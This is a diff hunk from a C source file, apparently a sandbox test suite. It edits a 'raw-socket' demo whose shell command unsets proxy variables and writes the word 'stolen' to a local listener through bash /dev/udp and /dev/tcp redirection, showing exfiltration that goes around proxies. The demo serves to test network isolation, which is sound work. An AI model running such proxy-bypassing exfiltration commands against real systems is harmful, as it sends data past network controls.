@@ -33,11 +33,12 @@ static const struct demo demos_table[] = {
         .operation = OPERATION_CONNECT,
         .unharmed = "nobody connected to the listener"},
     {.name = "raw-socket",
-        .title = "a raw socket past the proxies",
-        .words = "Proxy variables hold only what asks for them. This opens sockets of its own, for\n"
-                 "a connection and for datagrams, and asks nobody.",
+        .title = "straight out, past the proxies",
+        .words = "Proxy variables hold only what asks for them. This sends a datagram and opens a\n"
+                 "connection (UDP and TCP) by sockets of its own, and asks nobody.",
         .command = "unset http_proxy https_proxy ALL_PROXY\n"
-                   "for how in udp tcp; do echo stolen > /dev/$how/127.0.0.1/$PORT; done",
+                   "echo stolen > /dev/udp/127.0.0.1/$PORT\n"
+                   "echo stolen > /dev/tcp/127.0.0.1/$PORT",
         .sign = SIGN_CALLED,
         .operation = OPERATION_CONNECT,
         .unharmed = "neither connection nor datagram arrived"},
